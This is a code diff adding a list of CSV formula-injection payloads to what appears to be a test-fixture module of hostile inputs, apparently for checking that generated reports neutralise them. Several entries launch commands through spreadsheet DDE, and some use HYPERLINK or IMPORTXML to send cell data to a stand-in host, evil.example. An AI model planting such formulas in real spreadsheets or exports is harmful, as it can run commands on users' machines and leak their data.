@@ -91,6 +91,36 @@ export const CONTROL: readonly string[] = [
   "vowel\u180eseparator",
 ];
 
+/** What a spreadsheet would run, or what would break out of its cell (OWASP, CSV Injection). */
+export const FORMULAS: readonly string[] = [
+  "=1+1",
+  '=cmd|"/C calc"!A0',
+  '=HYPERLINK("https://evil.example?x="&A1,"click")',
+  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  " =1+1",
+  "\u3000=1+1",
+  "＝1+1",
+  "＋1",
+  "－1+1",
+  "＠SUM(1)",
+  "'=1+1",
+  "''=1+1",
+  '";=1+1',
+  '","=1+1',
+  'x"\r\n"=1+1',
+  "=1+1\r\n=2+2,=3+3",
+  "-",
+  "--1",
+  "+",
+  "@",
+];
+
 /** Fooling templates and prototypes. */
 export const NAMES: readonly string[] = [
   "{count} {name} {outcome}",
@@ -104,7 +134,7 @@ export const NAMES: readonly string[] = [
 ];
 
 /** All of them. */
-export const PAYLOADS: readonly string[] = [...MARKUP, ...MARKDOWN, ...CONTROL, ...NAMES];
+export const PAYLOADS: readonly string[] = [...MARKUP, ...MARKDOWN, ...CONTROL, ...FORMULAS, ...NAMES];
 
 /** Characters that no report may hold: they steer, turn, hide, or cannot be encoded. */
 export const HARMFUL: RegExp = new RegExp(
